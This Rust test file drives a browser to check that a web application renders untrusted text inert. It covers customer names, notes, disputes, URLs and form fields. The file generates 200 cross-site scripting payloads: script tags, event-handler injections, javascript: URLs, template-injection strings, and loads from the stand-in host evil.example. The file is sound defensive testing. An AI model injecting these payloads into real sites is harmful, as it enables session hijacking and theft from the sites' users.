//! What others wrote stays text (S2): two hundred payloads as names, numbers, notes, contacts, reasons and references, brought in by
//! files and by the API, then every page that shows them is opened. The browser is the judge: no dialog, no script, no report of the
//! policy. And what is typed into an address or a form comes back as text too.

use crate::browser::Browser;
use crate::company::{Company, out, today};
use crate::pictures::sign_in;
use serde_json::{Value, json};

/// Elements that run something, closers of what they may stand in, encodings; `RUN` is a script.
const SHAPES: [&str; 25] = [
    "<script>RUN</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=RUN>",
    "<img src=x onerror=\"RUN\">",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:RUN\">x</mi></math>",
    "<iframe srcdoc=\"<script>RUN</script>\"></iframe>",
    "<iframe src=javascript:RUN></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<a href=javascript:RUN autofocus onfocus=RUN>x</a>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<body onload=RUN>",
    "<video><source onerror=RUN></video>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<base href=//evil.example/>",
    "<form action=javascript:RUN><button autofocus>x</button></form>",
    "<template><script>RUN</script></template><noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<xmp><img src=x onerror=RUN></xmp>",
    "{{constructor.constructor('RUN')()}}${RUN}<%= RUN %>",
];
/// What stands before a payload, to get out of where it is.
const CLOSERS: [&str; 8] = [
    "",
    "\">",
    "'>",
    "</title></textarea></script></style>",
    "\" autofocus onfocus=RUN x=\"",
    "' onmouseover='RUN' style='position:fixed;inset:0' x='",
    "-->",
    "]]>",
];

/// Two hundred of them, each known by its number.
fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for shape in SHAPES {
        for closer in CLOSERS {
            all.push(format!("{}{closer}{shape}", all.len()).replace("RUN", "alert(1)"));
        }
    }
    all
}

/// A field of a CSV file.
fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Books in which every text that others write is a payload.
fn poisoned() -> (Company, Vec<String>) {
    let folder = tempfile::tempdir().expect("a folder");
    let at = folder.path();
    let all = payloads();
    assert_eq!(all.len(), 200);
    let (mut customers, mut invoices) = (
        "customer_number,name,country,segment,collector\n".to_owned(),
        "invoice_number,customer_id,segment,currency,issue_date,due_date,amount,po_number\n".to_owned(),
    );
    for (n, text) in all.iter().enumerate() {
        let text = quoted(text);
        customers += &format!("C{n},{text},DE,{text},{text}\n");
        invoices += &format!(
            "{text},C{n},{text},EUR,2026-08-{:02},2026-09-{:02},{}.00,{text}\n",
            1 + n % 28,
            1 + n % 28,
            100 + n
        );
    }
    std::fs::write(at.join("c.csv"), customers).expect("a file");
    std::fs::write(at.join("i.csv"), invoices).expect("a file");
    out(at, &["books", "init", "--books", "b.db"], "");
    out(at, &["import", "customers", "c.csv", "--books", "b.db", "-q"], "");
    out(at, &["import", "invoices", "i.csv", "--books", "b.db", "-q"], "");
    let day = today();
    let mut acts = String::new();
    let mut post = |n: usize, act: Value| {
        let Value::Object(mut act) = act else { return };
        act.insert("key".to_owned(), format!("{n}/{}/{}", act["do"], acts.len()).into());
        acts += &format!("{}\n", Value::Object(act));
    };
    for (n, text) in all.iter().enumerate() {
        let (customer, other) = (format!("C{n}"), &all[(n + 1) % all.len()]);
        post(
            n,
            json!({"do": "contact", "customer": customer, "name": text, "roles": ["dunning"], "email": "a@b.example", "phone": other}),
        );
        post(
            n,
            json!({"do": "activity", "customer": customer, "at": format!("{day}T09:00"), "medium": "call", "outcome": "reached", "note": text, "next_step": other, "next_date": day}),
        );
        post(
            n,
            json!({"do": "promise", "customer": customer, "date": day, "medium": "call", "currency": "EUR", "note": text, "parts": [{"due": day, "amount": "1.00"}]}),
        );
        post(
            n,
            json!({"do": "dispute", "document": text, "disputed": true, "date": day, "amount": "2.00", "reason": other, "note": text, "owner": text}),
        );
        post(n, json!({"do": "tag", "customer": customer, "tag": text}));
        if n % 4 == 0 {
            post(n, json!({"do": "customer_hold", "customer": customer, "date": day, "reason": text}));
        }
    }
    out(at, &["post", "--books", "b.db"], &acts);
    for (name, role) in [("Root", "administrator"), ("Maren", "manager"), (all[2].as_str(), "auditor")] {
        out(at, &["user", "set", name, "--role", role, "--books", "b.db"], "");
        out(at, &["user", "password", name, "--books", "b.db"], crate::company::PASSWORD);
    }
    (Company::over(folder), all)
}

/// What speaks against the page that is open.
fn verdict(browser: &Browser, found: &mut Vec<String>, address: &str) {
    found.extend(browser.ran().into_iter().map(|own| format!("{address}: {own}")));
    let foreign = browser.requests().into_iter().filter(|request| !request.url.starts_with(&browser.home));
    found.extend(foreign.map(|request| format!("{address}: asks {}", request.url)));
    let policy = browser
        .complaints()
        .into_iter()
        .filter(|own| own.contains("Security Policy") || own.contains("Trusted"));
    found.extend(policy.map(|own| format!("{address}: {own}")));
}

#[test]
fn what_others_wrote_stays_text() {
    let (company, all) = poisoned();
    let Some(browser) = Browser::open(&company.home) else { return };
    sign_in(&browser, "Maren");
    let mut found = Vec::new();
    browser.requests();
    browser.complaints();
    // Every page that there is, then the account and the document of every payload.
    for (_, address) in crate::crawl::kinds(&browser) {
        browser.go(&address);
        verdict(&browser, &mut found, &address);
    }
    for (n, text) in all.iter().enumerate() {
        let document: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        let document = format!("/documents/{}", document.replace('+', "%20"));
        let pages = [format!("/accounts/C{n}"), document, format!("/find?q=C{n}")];
        // Each account; of documents and searches every fifth, for each shape and closer stands in several.
        for address in pages.iter().take(if n % 5 == 0 { 3 } else { 1 }) {
            browser.go(address);
            verdict(&browser, &mut found, address);
        }
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn what_stands_in_an_address_or_a_field_stays_text() {
    let company = Company::open();
    let Some(browser) = Browser::open(&company.home) else { return };
    sign_in(&browser, "Maren");
    let mut found = Vec::new();
    browser.requests();
    browser.complaints();
    for (n, text) in payloads().iter().enumerate() {
        let text: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        let part = text.replace('+', "%20");
        let address = match n % 8 {
            0 => format!("/find?q={text}"),
            1 => format!("/accounts/{part}"),
            2 => format!("/worklist?as_of={text}&q={text}"),
            3 => format!("/aging?as_of={text}&by={text}&known_at={text}"),
            4 => format!("/figures/{part}?by={text}"),
            5 => format!("/library?q={text}"),
            6 => format!("/?said={text}"),
            _ => format!("/{part}?then={text}"),
        };
        browser.go(&address);
        verdict(&browser, &mut found, &address);
    }
    // The door gives back the name that it refuses.
    browser.follow("form[action='/sign-out'] button, a.brand");
    let (name, then) = ("\"><img src=x onerror=alert(1)>", "javascript:alert(1)");
    browser.run("document.cookie.split(';').forEach(() => {});", json!([]));
    browser.tools("Network.clearBrowserCookies", json!({}));
    browser.go(&format!("/sign-in?then={then}"));
    browser.fill("[name=name]", name);
    browser.fill("[name=password]", "a wrong password of some length");
    browser.follow(".door button[type=submit]");
    assert_eq!(browser.value("[name=name]", "value"), name);
    assert_eq!(browser.value("[name=then]", "value"), "/");
    verdict(&browser, &mut found, "/sign-in");
    assert!(found.is_empty(), "{}", found.join("\n"));
}

/// What a form of no script posts, with a payload in every field, comes back as text: the pages' own refusals show what was typed.
#[test]
fn what_was_typed_comes_back_as_text_when_the_session_has_ended() {
    let company = Company::open();
    let Some(browser) = Browser::open(&company.home) else { return };
    sign_in(&browser, "Maren");
    let mut found = Vec::new();
    for (kind, address) in crate::crawl::kinds(&browser).into_iter().take(40) {
        browser.go(&address);
        let fill = "const form = [...document.querySelectorAll('main form')].find((own) => own.method === 'post');
            if (!form) return false;
            for (const field of form.querySelectorAll('input:not([type=file]):not([type=radio]):not([type=checkbox]), textarea'))
              if (field.name !== 'key' && field.name !== 'seen') field.value = arguments[0];
            return true;";
        let text = "\"'></textarea><script>alert(1)</script><img src=x onerror=alert(1)>";
        if browser.run(fill, json!([text])) == true {
            browser.leave(|| {
                let send = "const form = [...document.querySelectorAll('main form')].find((own) => own.method === 'post');
                    setTimeout(() => HTMLFormElement.prototype.submit.call(form), 0);";
                browser.run(send, json!([]));
            });
            verdict(&browser, &mut found, &kind);
        }
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}
